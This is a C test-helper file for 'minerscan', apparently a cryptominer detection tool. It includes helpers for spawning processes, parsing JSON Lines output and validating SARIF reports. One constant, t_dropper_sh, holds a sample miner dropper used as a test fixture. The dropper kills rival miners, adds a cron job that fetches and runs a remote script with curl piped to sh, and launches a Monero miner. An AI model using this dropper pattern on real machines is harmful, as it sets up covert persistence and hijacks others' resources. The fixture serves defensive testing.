/* util.c - test helpers (see util.h). */
#include "util.h"

#include <criterion/criterion.h>
#include <openssl/rand.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "iocs.h"
#include "wallet.h"

char *t_mkdtemp(void) {
    const char *base = getenv("TMPDIR");
    char *p = NULL;
    if (asprintf(&p, "%s/ms-test-XXXXXX", base && *base ? base : "/tmp") < 0)
        return NULL;
    if (!mkdtemp(p)) {
        free(p);
        return NULL;
    }
    return p;
}

void t_rmtree(const char *dir) {
    t_rmtree_deep(dir);
}

char *t_tmp;

void t_tmp_setup(void) {
    t_tmp = t_mkdtemp();
    cr_assert_not_null(t_tmp);
}

void t_tmp_setup_0755(void) {
    t_tmp_setup();
    chmod(t_tmp, 0755);
}

void t_tmp_teardown(void) {
    t_rmtree(t_tmp);
    free(t_tmp);
    t_tmp = NULL;
}

char *t_path(const char *dir, const char *name) {
    char *p = NULL;
    if (asprintf(&p, "%s/%s", dir, name) < 0)
        return NULL;
    return p;
}

static void mkparents(char *path) {
    for (char *s = path + 1; *s; s++) {
        if (*s == '/') {
            *s = '\0';
            mkdir(path, 0755);
            *s = '/';
        }
    }
}

char *t_write(const char *dir, const char *name, const void *data, size_t n) {
    char *p = t_path(dir, name);
    if (!p)
        return NULL;
    mkparents(p);
    FILE *f = fopen(p, "wb");
    if (!f) {
        free(p);
        return NULL;
    }
    if (n && fwrite(data, 1, n, f) != n) {
        fclose(f);
        free(p);
        return NULL;
    }
    fclose(f);
    return p;
}

char *t_write_str(const char *dir, const char *name, const char *s) {
    return t_write(dir, name, s, strlen(s));
}

char *t_read(const char *path, size_t *len) {
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    size_t cap = 4096, n = 0;
    char *b = malloc(cap + 1);
    for (;;) {
        if (n == cap) {
            cap *= 2;
            b = realloc(b, cap + 1);
        }
        size_t k = fread(b + n, 1, cap - n, f);
        if (k == 0)
            break;
        n += k;
    }
    fclose(f);
    b[n] = '\0';
    if (len)
        *len = n;
    return b;
}

char *t_fault_shim(const char *name, const char *extra) {
    const char *root = getenv("MS_SOURCE_ROOT");
    cr_assert_not_null(root, "MS_SOURCE_ROOT is set by meson");
    char *src_path = NULL;
    cr_assert_geq(asprintf(&src_path, "%s/tests/fault_shim.c", root), 0);
    char *src = t_read(src_path, NULL);
    cr_assert_not_null(src, "read %s", src_path);
    char *so = t_path(t_tmp, name);
    cr_assert_eq(t_compile("cc", src, so, extra), 0, "compile the fault shim (%s)", extra);
    chmod(so, 0755);
    free(src);
    free(src_path);
    return so;
}

bool t_have_program(const char *name) {
    const char *path = getenv("PATH");
    if (!path)
        return false;
    char *copy = strdup(path), *save = NULL;
    bool found = false;
    for (char *d = strtok_r(copy, ":", &save); d && !found; d = strtok_r(NULL, ":", &save)) {
        char *p = t_path(d, name);
        found = access(p, X_OK) == 0;
        free(p);
    }
    free(copy);
    return found;
}

int t_compile(const char *cc, const char *source, const char *out, const char *extra) {
    char *dir = t_mkdtemp();
    char *src = t_write_str(dir, "prog.c", source);
    char *cmd = NULL;
    int r = -1;
    if (asprintf(&cmd, "%s -O1 -o '%s' '%s' %s 2>&1", cc, out, src, extra ? extra : "") >= 0) {
        r = system(cmd);
        free(cmd);
    }
    free(src);
    t_rmtree(dir);
    free(dir);
    return r == 0 ? 0 : -1;
}

static void drain(int fd, char **buf, size_t *len, size_t *cap) {
    if (*len + 65536 > *cap) {
        *cap = (*cap ? *cap * 2 : 65536) + 65536;
        *buf = realloc(*buf, *cap + 1);
    }
    ssize_t k = read(fd, *buf + *len, *cap - *len);
    if (k > 0)
        *len += (size_t)k;
}

int t_run(const char *const *argv, const char *stdin_data, unsigned timeout_s, t_result *res) {
    struct rusage ru;
    return t_run_rusage(argv, stdin_data, timeout_s, res, &ru);
}

const char *t_minerscan_path(void) {
    const char *p = getenv("MINERSCAN");
    return p && *p ? p : "minerscan";
}

int t_minerscan(t_result *res, const char *stdin_data, ...) {
    const char *argv[128];
    size_t n = 0;
    argv[n++] = t_minerscan_path();
    va_list ap;
    va_start(ap, stdin_data);
    const char *a;
    while ((a = va_arg(ap, const char *)) && n < 127)
        argv[n++] = a;
    va_end(ap);
    argv[n] = NULL;
    return t_run(argv, stdin_data, 120, res);
}

json_t *t_run_jsonl(t_result *res, ...) {
    const char *argv[128];
    size_t n = 0;
    argv[n++] = t_minerscan_path();
    argv[n++] = "-f";
    argv[n++] = "jsonl";
    argv[n++] = "--no-progress";
    va_list ap;
    va_start(ap, res);
    const char *a;
    while ((a = va_arg(ap, const char *)) && n < 127)
        argv[n++] = a;
    va_end(ap);
    argv[n] = NULL;
    cr_assert_eq(t_run(argv, NULL, 120, res), 0);
    json_t *recs = t_jsonl(res->out);
    cr_assert_not_null(recs, "not JSON Lines: %s\nstderr: %s", res->out, res->err);
    return recs;
}

void t_result_free(t_result *res) {
    free(res->out);
    free(res->err);
    memset(res, 0, sizeof(*res));
}

static bool is_type(json_t *o, const char *type) {
    const char *t = json_string_value(json_object_get(o, "type"));
    return t && !strcmp(t, type);
}

json_t *t_jsonl(const char *text) {
    json_t *all = t_jsonl_all(text);
    size_t n = all ? json_array_size(all) : 0;
    if (n && is_type(json_array_get(all, n - 1), "end"))
        json_array_remove(all, n - 1);
    if (n && is_type(json_array_get(all, 0), "run"))
        json_array_remove(all, 0);
    return all;
}

const char *t_report_body(const char *text, size_t *ret_len) {
    const char *b = text, *e = text + strlen(text);
    if (!strncmp(b, "{\"type\":\"run\"", 13) || !strncmp(b, "run: minerscan ", 15)) {
        b = strchr(b, '\n');
        b = b ? b + 1 : e;
        /* the text run record's indented lines */
        while (!strncmp(text, "run: ", 5) && !strncmp(b, "    ", 4)) {
            const char *nl = strchr(b, '\n');
            b = nl ? nl + 1 : e;
        }
    }
    const char *last = e > b && e[-1] == '\n' ? e - 1 : e;
    while (last > b && last[-1] != '\n')
        last--;
    if (!strncmp(last, "{\"type\":\"end\"", 13) || !strncmp(last, "end: ", 5))
        e = last;
    *ret_len = (size_t)(e - b);
    return b;
}

json_t *t_jsonl_all(const char *text) {
    json_t *arr = json_array();
    const char *p = text;
    while (*p) {
        const char *nl = strchr(p, '\n');
        size_t n = nl ? (size_t)(nl - p) : strlen(p);
        if (n > 0) {
            json_error_t e;
            json_t *o = json_loadb(p, n, 0, &e);
            if (!o || !json_is_object(o)) {
                json_decref(o);
                json_decref(arr);
                return NULL;
            }
            json_array_append_new(arr, o);
        }
        p += n + (nl ? 1 : 0);
    }
    return arr;
}

/* Strict padded base64 (RFC 4648): malloc'd bytes, or NULL for anything
 * else, so a bad path_b64 never matches. */
static char *b64_decode(const char *in, size_t *ret_len) {
    static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t n = strlen(in), k = 0;
    if (n % 4)
        return NULL;
    char *out = malloc(n / 4 * 3 + 1);
    for (size_t i = 0; out && i < n; i += 4) {
        uint32_t v = 0;
        int pad = 0;
        for (int j = 0; j < 4; j++) {
            const char *c = in[i + j] ? strchr(tab, in[i + j]) : NULL;
            bool last = i + 4 == n;
            if (in[i + j] == '=' && last && j >= 2 && (j == 3 || in[i + 3] == '=')) {
                pad++;
                v <<= 6;
            } else if (c && !pad) {
                v = v << 6 | (uint32_t)(c - tab);
            } else {
                free(out);
                return NULL;
            }
        }
        out[k++] = (char)(v >> 16);
        if (pad < 2)
            out[k++] = (char)(v >> 8);
        if (pad < 1)
            out[k++] = (char)v;
    }
    *ret_len = k;
    return out;
}

json_t *t_find_record(json_t *records, const char *path) {
    size_t i, len = strlen(path);
    json_t *r;
    json_array_foreach(records, i, r) {
        const char *t = json_string_value(json_object_get(r, "type"));
        if (!t || strcmp(t, "object"))
            continue;
        const char *p = json_string_value(json_object_get(r, "path"));
        const char *b = json_string_value(json_object_get(r, "path_b64"));
        if (p && !strcmp(p, path))
            return r;
        if (b) {
            size_t n = 0;
            char *raw = b64_decode(b, &n);
            bool eq = raw && n == len && !memcmp(raw, path, len);
            free(raw);
            if (eq)
                return r;
        }
    }
    return NULL;
}

json_t *t_summary(json_t *records) {
    size_t i;
    json_t *r;
    json_array_foreach(records, i, r) {
        const char *t = json_string_value(json_object_get(r, "type"));
        if (t && !strcmp(t, "summary"))
            return r;
    }
    return NULL;
}

bool t_has_rule(json_t *record, const char *rule) {
    size_t i;
    json_t *h;
    json_array_foreach(json_object_get(record, "rules"), i, h) {
        const char *n = json_string_value(json_object_get(h, "rule"));
        if (n && !strcmp(n, rule))
            return true;
    }
    return false;
}

/* posix_spawn, never fork: a test process has threads of Criterion's
 * own (and a test may start more), and a forked child of a threaded
 * process that touches a lock another thread held (ASan's allocator,
 * malloc) hangs for ever (issue 15: the ASan faults suite hung 1200 s). */
pid_t t_spawn(const char *const *argv, int in_fd, int out_fd, int err_fd) {
    posix_spawn_file_actions_t fa;
    posix_spawnattr_t at;
    sigset_t none, dfl;
    pid_t pid = -1;
    sigemptyset(&none);
    sigemptyset(&dfl);
    sigaddset(&dfl, SIGPIPE);
    sigaddset(&dfl, SIGINT);
    sigaddset(&dfl, SIGTERM);
    sigaddset(&dfl, SIGHUP);
    sigaddset(&dfl, SIGUSR1);
    posix_spawn_file_actions_init(&fa);
    posix_spawnattr_init(&at);
    posix_spawnattr_setflags(&at, POSIX_SPAWN_SETSIGMASK | POSIX_SPAWN_SETSIGDEF);
    posix_spawnattr_setsigmask(&at, &none);
    posix_spawnattr_setsigdefault(&at, &dfl);
    if (in_fd >= 0)
        posix_spawn_file_actions_adddup2(&fa, in_fd, 0);
    else
        posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
    if (out_fd >= 0)
        posix_spawn_file_actions_adddup2(&fa, out_fd, 1);
    if (err_fd >= 0)
        posix_spawn_file_actions_adddup2(&fa, err_fd, 2);
    int e = posix_spawnp(&pid, argv[0], &fa, &at, (char *const *)argv, environ);
    posix_spawn_file_actions_destroy(&fa);
    posix_spawnattr_destroy(&at);
    return e == 0 ? pid : -e;
}

static double t_now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int t_wait(pid_t pid, double timeout_s) {
    double end = t_now() + timeout_s;
    int st = 0;
    for (;;) {
        pid_t k = waitpid(pid, &st, WNOHANG);
        if (k == pid)
            return WIFEXITED(st) ? WEXITSTATUS(st) : 256 + WTERMSIG(st);
        if (k < 0 && errno != EINTR)
            return -1;
        if (t_now() > end) {
            kill(pid, SIGKILL);
            waitpid(pid, &st, 0);
            return -1;
        }
        usleep(10000);
    }
}

/* t_run, reaping the child with wait4() to return its rusage. */
int t_run_rusage(const char *const *argv, const char *stdin_data, unsigned timeout_s, t_result *res,
                 struct rusage *ret_ru) {
    int pin[2], pout[2], perr[2];
    memset(res, 0, sizeof(*res));
    memset(ret_ru, 0, sizeof(*ret_ru));
    if (pipe2(pin, O_CLOEXEC) || pipe2(pout, O_CLOEXEC) || pipe2(perr, O_CLOEXEC))
        return -errno;
    pid_t pid = t_spawn(argv, pin[0], pout[1], perr[1]);
    if (pid < 0)
        return pid;
    close(pin[0]);
    close(pout[1]);
    close(perr[1]);
    if (stdin_data) {
        size_t n = strlen(stdin_data), off = 0;
        signal(SIGPIPE, SIG_IGN);
        while (off < n) {
            ssize_t k = write(pin[1], stdin_data + off, n - off);
            if (k <= 0)
                break;
            off += (size_t)k;
        }
    }
    close(pin[1]);
    size_t ocap = 0, ecap = 0;
    struct pollfd fds[2] = {{.fd = pout[0], .events = POLLIN}, {.fd = perr[0], .events = POLLIN}};
    time_t deadline = time(NULL) + (time_t)timeout_s;
    int open_fds = 2;
    bool killed = false;
    while (open_fds > 0) {
        int k = poll(fds, 2, 200);
        if (time(NULL) > deadline && !killed) {
            kill(pid, SIGKILL);
            killed = true;
        }
        if (k <= 0)
            continue;
        for (int i = 0; i < 2; i++) {
            if (fds[i].fd < 0 || !(fds[i].revents & (POLLIN | POLLHUP | POLLERR)))
                continue;
            size_t before = i == 0 ? res->out_len : res->err_len;
            if (i == 0)
                drain(fds[i].fd, &res->out, &res->out_len, &ocap);
            else
                drain(fds[i].fd, &res->err, &res->err_len, &ecap);
            size_t after = i == 0 ? res->out_len : res->err_len;
            if (after == before) {
                close(fds[i].fd);
                fds[i].fd = -1;
                open_fds--;
            }
        }
    }
    int st = 0;
    while (wait4(pid, &st, 0, ret_ru) < 0 && errno == EINTR) {
    }
    res->status = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
    if (!res->out)
        res->out = calloc(1, 1);
    if (!res->err)
        res->err = calloc(1, 1);
    res->out[res->out_len] = '\0';
    res->err[res->err_len] = '\0';
    return 0;
}

#include <dirent.h>

/* Is name below dirfd a directory (not following a symlink)? */
static bool t_is_dir_at(int dirfd, const struct dirent *e) {
    if (e->d_type != DT_UNKNOWN)
        return e->d_type == DT_DIR;
    struct stat st;
    return fstatat(dirfd, e->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISDIR(st.st_mode);
}

void t_rmtree_deep(const char *dir) {
    const int dflags = O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC;
    char **names = NULL;
    size_t depth = 0, cap = 0;
    if (!dir)
        return;
    if (chmod(dir, 0700) != 0)
        return;
    int fd = open(dir, dflags);
    while (fd >= 0) {
        int dfd = dup(fd);
        DIR *d = dfd >= 0 ? fdopendir(dfd) : NULL;
        char *sub = NULL;
        if (!d) {
            if (dfd >= 0)
                close(dfd);
            break;
        }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
                continue;
            if (t_is_dir_at(fd, e)) {
                if (!sub)
                    sub = strdup(e->d_name);
            } else {
                unlinkat(fd, e->d_name, 0);
            }
        }
        closedir(d);
        if (sub) {
            if (fchmodat(fd, sub, 0700, 0) != 0) {
                /* not ours to change: the open below tells */
            }
            int nfd = openat(fd, sub, dflags);
            if (nfd >= 0 && depth == cap) {
                char **v = realloc(names, (cap ? cap * 2 : 64) * sizeof(*names));
                if (v) {
                    names = v;
                    cap = cap ? cap * 2 : 64;
                }
            }
            if (nfd < 0 || depth == cap) {
                /* cannot go down: try to remove it as it is, else give up */
                bool gone = unlinkat(fd, sub, AT_REMOVEDIR) == 0;
                if (nfd >= 0)
                    close(nfd);
                free(sub);
                if (!gone)
                    break;
                continue;
            }
            names[depth++] = sub;
            close(fd);
            fd = nfd;
            continue;
        }
        if (depth == 0)
            break;
        int up = openat(fd, "..", dflags & ~O_NOFOLLOW);
        close(fd);
        fd = up;
        depth--;
        bool removed = fd >= 0 && unlinkat(fd, names[depth], AT_REMOVEDIR) == 0;
        free(names[depth]);
        if (!removed)
            break;
    }
    if (fd >= 0)
        close(fd);
    while (depth > 0)
        free(names[--depth]);
    free(names);
    rmdir(dir);
}

/* ---- SARIF validation ---- */

bool t_have_sarif_validator(void) {
    return t_have_program("sarif-multitool");
}

/* The npm wrapper (bin.js) hands its arguments to a shell, so only paths
 * without shell metacharacters can be passed through it unquoted. */
static bool shell_safe(const char *s) {
    for (; *s; s++)
        if (!strchr("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/._-+", *s))
            return false;
    return true;
}

static const char *js(json_t *v) {
    const char *s = json_string_value(v);
    return s ? s : "";
}

static const char *effective_level(json_t *run, json_t *res) {
    const char *lvl = json_string_value(json_object_get(res, "level"));
    if (lvl)
        return lvl;
    json_t *idx = json_object_get(res, "ruleIndex");
    json_t *driver = json_object_get(json_object_get(run, "tool"), "driver");
    json_t *rules = json_object_get(driver, "rules");
    if (json_is_integer(idx) && json_is_array(rules)) {
        json_t *rule = json_array_get(rules, (size_t)json_integer_value(idx));
        lvl = json_string_value(
            json_object_get(json_object_get(rule, "defaultConfiguration"), "level"));
        if (lvl)
            return lvl;
    }
    return "warning"; /* SARIF 3.27.10: the default level */
}

int t_sarif_validate(const char *sarif_path, char **ret_text) {
    char *dir = t_mkdtemp(), *report = dir ? t_path(dir, "validation.sarif") : NULL;
    char *text = NULL;
    size_t text_len = 0;
    FILE *tf = open_memstream(&text, &text_len);
    json_t *doc = NULL;
    int errors = -1;
    t_result res = {0};

    if (!report || !tf)
        goto out;
    if (!shell_safe(sarif_path) || !shell_safe(report)) {
        fprintf(tf, "path not safe for the sarif-multitool wrapper: %s\n", sarif_path);
        goto out;
    }
    const char *argv[] = {"sarif-multitool", "validate", "-o", report, sarif_path, NULL};
    if (t_run(argv, NULL, 100, &res) < 0 || res.status != 0) {
        fprintf(tf, "sarif-multitool exited %d:\n%s%s\n", res.status, res.out ? res.out : "",
                res.err ? res.err : "");
        goto out;
    }
    json_error_t je;
    doc = json_load_file(report, 0, &je);
    if (!doc) {
        fprintf(tf, "cannot read the validator's report %s: %s\n%s", report, je.text,
                res.out ? res.out : "");
        goto out;
    }
    errors = 0;
    size_t i, j;
    json_t *run, *r;
    json_array_foreach(json_object_get(doc, "runs"), i, run) {
        json_array_foreach(json_object_get(run, "results"), j, r) {
            const char *lvl = effective_level(run, r);
            json_t *msg = json_object_get(r, "message");
            if (!strcmp(lvl, "error"))
                errors++;
            fprintf(tf, "%s %s %s:", lvl, js(json_object_get(r, "ruleId")),
                    js(json_object_get(msg, "id")));
            if (json_string_value(json_object_get(msg, "text")))
                fprintf(tf, " %s", json_string_value(json_object_get(msg, "text")));
            size_t k;
            json_t *a;
            json_array_foreach(json_object_get(msg, "arguments"), k, a)
                fprintf(tf, "%s%s", k ? "; " : " ", js(a));
            fputc('\n', tf);
        }
    }
out:
    json_decref(doc);
    t_result_free(&res);
    if (tf)
        fclose(tf);
    if (ret_text)
        *ret_text = text;
    else
        free(text);
    if (dir)
        t_rmtree(dir);
    free(report);
    free(dir);
    return errors;
}

const char t_dropper_sh[] =
    "#!/bin/sh\n"
    "pkill -f xmrig; pkill -f kdevtmpfsi\n"
    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -\n"
    "./.x -o stratum+tcp://pool.example.com:3333 -u worker1 -p x --donate-level=0\n";

void t_make_xmr(uint8_t tag, bool integrated, char *out, size_t cap) {
    uint8_t raw[77], h[32];
    size_t n = integrated ? 73 : 65;
    raw[0] = tag;
    cr_assert_eq(RAND_bytes(raw + 1, (int)n - 1), 1);
    ms_keccak256(raw, n, h);
    memcpy(raw + n, h, 4);
    cr_assert_gt(ms_xmr_base58_encode(raw, n + 4, out, cap), 0);
}

bool t_elf_is_static(const char *path) {
    size_t n = 0;
    char *b = t_read(path, &n);
    bool interp = false, ok = false;
    /* Elf64_Ehdr: e_phoff at 32 (8 bytes), e_phentsize at 54, e_phnum at 56;
     * each Elf64_Phdr starts with p_type (4 bytes), PT_INTERP = 3 */
    if (b && n >= 64 && !memcmp(b, "\177ELF", 4) && b[4] == 2) {
        uint64_t phoff;
        uint16_t phentsize, phnum;
        memcpy(&phoff, b + 32, 8);
        memcpy(&phentsize, b + 54, 2);
        memcpy(&phnum, b + 56, 2);
        ok = phentsize >= 4 && phoff < n && (uint64_t)phnum * phentsize <= n - phoff;
        for (uint16_t i = 0; ok && i < phnum; i++) {
            uint32_t type;
            memcpy(&type, b + phoff + (uint64_t)i * phentsize, 4);
            if (type == 3)
                interp = true;
        }
    }
    free(b);
    return ok && !interp;
}

bool t_under_tsan(void) {
    const char *v = getenv("MS_UNDER_TSAN");
    return v && *v && strcmp(v, "0") != 0;
}
